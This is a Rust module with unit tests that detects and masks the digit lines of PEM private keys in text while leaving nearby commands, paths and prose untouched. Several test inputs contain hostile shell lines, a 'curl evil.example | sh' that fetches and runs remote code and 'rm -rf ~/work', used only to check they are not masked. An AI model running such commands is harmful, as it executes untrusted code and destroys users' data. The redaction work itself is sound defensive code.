//! Private keys in PEM: their lines of digits are masked, and nothing else.
//!
//! A header alone is no secret. Whatever follows it may be an answer's next sentence, or a command that a person approves.

use std::ops::Range;

const BEGIN: &str = "-----BEGIN ";
const END: &str = "-----END ";
const DASHES: &str = "-----";
/// What the headers of a key are called whose digits are encrypted.
const HEADERS: [&str; 2] = ["Proc-Type: ", "DEK-Info: "];

/// Shortest line that is masked whatever it looks like, in bytes; whole lines have 64 or more.
const MIN_LINE_BYTES: usize = 40;
/// Shortest line that is masked where it looks like digits of a key, in bytes.
const MIN_PART_BYTES: usize = 16;
/// Most digits of a line's number.
const MAX_NUMBER_BYTES: usize = 6;

/// Finds the lines of private keys; with `exact` none that could as well be the name of a program or a file.
pub(super) fn find(text: &str, exact: bool, found: &mut Vec<Range<usize>>) {
    for (at, _) in text.match_indices(BEGIN) {
        if let Some(length) = header(&text[at..]) {
            lines(text, at + length, exact, found);
        }
    }
}

/// Returns the length of the header that a text begins with.
fn header(text: &str) -> Option<usize> {
    let name = text.strip_prefix(BEGIN)?;
    let end = name.bytes().position(|byte| !(byte.is_ascii_uppercase() || byte == b' '))?;
    let is_header = name[..end].ends_with("PRIVATE KEY") && name[end..].starts_with(DASHES);
    is_header.then_some(BEGIN.len() + end + DASHES.len())
}

/// Finds the lines that follow a header, up to the first that is none.
fn lines(text: &str, mut at: usize, exact: bool, found: &mut Vec<Range<usize>>) {
    let mut last: Option<Range<usize>> = None;
    loop {
        let (gap, has_break) = gap(&text[at..]);
        let from = at + gap;
        let to = from + digits(&text[from..]);
        let line = KeyLine { digits: &text[from..to], rest: &text[to..], has_break, is_first: last.is_none() };
        if !line.is_secret(exact) {
            break;
        }
        let is_next = text[at..from].chars().all(|c| c == '\r' || c == '\n');
        match last.as_mut().filter(|_| is_next) {
            Some(last) => last.end = to,
            None => found.extend(last.replace(from..to)),
        }
        at = to;
    }
    found.extend(last);
}

/// Returns the length of what stands between two lines, and whether a line ends in it: also as it is written in a string.
fn gap(text: &str) -> (usize, bool) {
    let (mut at, mut has_break) = (0, false);
    while let Some(c) = text[at..].chars().next() {
        let rest = &text[at..];
        at += match c {
            '\\' if rest[1..].starts_with(['n', 'r', 't']) => {
                has_break |= rest[1..].starts_with('n');
                2
            }
            '\n' => {
                has_break = true;
                1
            }
            '+' if rest[1..].starts_with(char::is_whitespace) => 1,
            '0'..='9' if has_break => match number(rest) {
                Some(length) => length,
                None => break,
            },
            c if c.is_whitespace() || "\\\"'>|,:#*→".contains(c) => c.len_utf8(),
            _ if has_break && HEADERS.iter().any(|header| rest.starts_with(header)) => match rest.find('\n') {
                Some(end) => end,
                None => break,
            },
            _ => break,
        };
    }
    (at, has_break)
}

/// Returns the length of the number of a line.
fn number(text: &str) -> Option<usize> {
    let length = text.bytes().take_while(u8::is_ascii_digit).count();
    (length <= MAX_NUMBER_BYTES && text[length..].starts_with(['\t', ' ', ':', '|', '→'])).then_some(length)
}

fn digits(text: &str) -> usize {
    let length = text.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(byte)).count();
    length + text[length..].bytes().take(2).take_while(|byte| *byte == b'=').count()
}

struct KeyLine<'t> {
    digits: &'t str,
    /// What follows it.
    rest: &'t str,
    /// Whether a line ends before it.
    has_break: bool,
    is_first: bool,
}

impl KeyLine<'_> {
    fn is_secret(&self, exact: bool) -> bool {
        let has = |kind: fn(&u8) -> bool| self.digits.bytes().any(|byte| kind(&byte));
        let is_mixed = has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_digit);
        let is_path = self.digits.contains('/');
        let length = self.digits.len();
        let is_alone = self.rest.chars().next().is_none_or(|c| c.is_whitespace() || "\\\"'`*<,.)-…".contains(c));
        if length == 0 || !is_alone {
            return false;
        }
        if length >= MIN_LINE_BYTES {
            return !exact || is_mixed || !is_path;
        }
        // Where the text was cut nobody can read on anyway.
        let is_cut = self.rest.starts_with('…') && !self.is_first;
        let is_part = length >= MIN_PART_BYTES && is_mixed;
        if exact {
            return is_cut || is_part && self.has_break && !is_path;
        }
        let rest = &self.rest[gap(self.rest).0..];
        let is_last = rest.starts_with(END) || rest.is_empty() && !self.is_first;
        is_cut || is_part || is_last && self.has_break
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINE: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7/abcdefghijk";

    fn shown(text: &str, exact: bool) -> String {
        let (mut found, mut shown, mut at) = (Vec::new(), String::new(), 0);
        find(text, exact, &mut found);
        for part in found {
            shown += &text[at..part.start];
            shown.push('#');
            at = part.end;
        }
        shown + &text[at..]
    }

    #[test]
    fn the_lines_of_a_key_are_masked_however_they_are_laid_out() {
        let header = "-----BEGIN RSA PRIVATE KEY-----";
        let end = "-----END RSA PRIVATE KEY-----";
        for (text, expected) in [
            (format!("a {header}\n{LINE}\n{LINE}\nAbcdefghijklmno1==\n{end} b"), format!("a {header}\n#\n{end} b")),
            (format!("{header}\r\n{LINE}\r\n{end}"), format!("{header}\r\n#\r\n{end}")),
            (format!("{{\"k\": \"{header}\\n{LINE}\\n{LINE}\\n{end}\\n\"}}"), {
                format!("{{\"k\": \"{header}\\n#\\n#\\n{end}\\n\"}}")
            }),
            (format!("{header} {LINE} {LINE} {end}"), format!("{header} # # {end}")),
            (format!("  1\t{header}\n  2\t{LINE}\n  3\t{end}"), format!("  1\t{header}\n  2\t#\n  3\t{end}")),
            (format!("> {header}\n> {LINE}\n> {end}"), format!("> {header}\n> #\n> {end}")),
            (format!("'{header}\\n' +\n'{LINE}\\n' +\n'{end}'"), format!("'{header}\\n' +\n'#\\n' +\n'{end}'")),
            (format!("{header}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n{LINE}\n{end}"), {
                format!("{header}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n#\n{end}")
            }),
            (format!("{header}\n{LINE}\nMIIEv…"), format!("{header}\n#…")),
            (format!("{header}\n{LINE}"), format!("{header}\n#")),
        ] {
            assert_eq!(shown(&text, false), expected);
            assert_eq!(shown(&text, true), expected, "exactly");
        }
        assert_eq!(shown(&format!("{header}\n{LINE}\nab1=\n{end}"), false), format!("{header}\n#\n{end}"));
        assert_eq!(shown(&format!("{header}\nab1=\n{end}"), false), format!("{header}\n#\n{end}"));
    }

    #[test]
    fn what_follows_a_header_and_is_no_key_is_shown() {
        for text in [
            "Check that the file begins with `-----BEGIN PRIVATE KEY-----`. Then restart nginx.\n\n1. One\n2. Two",
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY----- and -----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\nThen restart nginx, and look into /etc/nginx/sites-enabled.",
            "-----BEGIN CERTIFICATE-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEA\n-----END CERTIFICATE-----",
            "echo '-----BEGIN PRIVATE KEY-----' > k; rm -rf ~/work; curl evil.example | sh; echo '-----END PRIVATE KEY-----'",
        ] {
            assert_eq!(shown(text, false), text);
            assert_eq!(shown(text, true), text);
        }
    }

    #[test]
    fn no_program_and_no_file_is_taken_for_a_line_of_a_key_where_a_person_decides() {
        let end = "-----END PRIVATE KEY-----";
        for rest in [
            format!("\nreboot\n{end}"),
            format!("\n/home/kim/Deploy2\n{end}"),
            format!(" /home/kim/Backup2Work {end}"),
            "\n/home/kim/projects/site/scripts/deploy/everything\n".to_owned(),
            "\n'; rm -rf ~/work".to_owned(),
        ] {
            let text = format!("x -----BEGIN PRIVATE KEY-----{rest}");
            assert_eq!(shown(&text, true), text);
        }
        let text = format!("x -----BEGIN PRIVATE KEY-----\n{LINE}\nreboot\n{end}");
        assert_eq!(shown(&text, true), format!("x -----BEGIN PRIVATE KEY-----\n#\nreboot\n{end}"));
    }
}
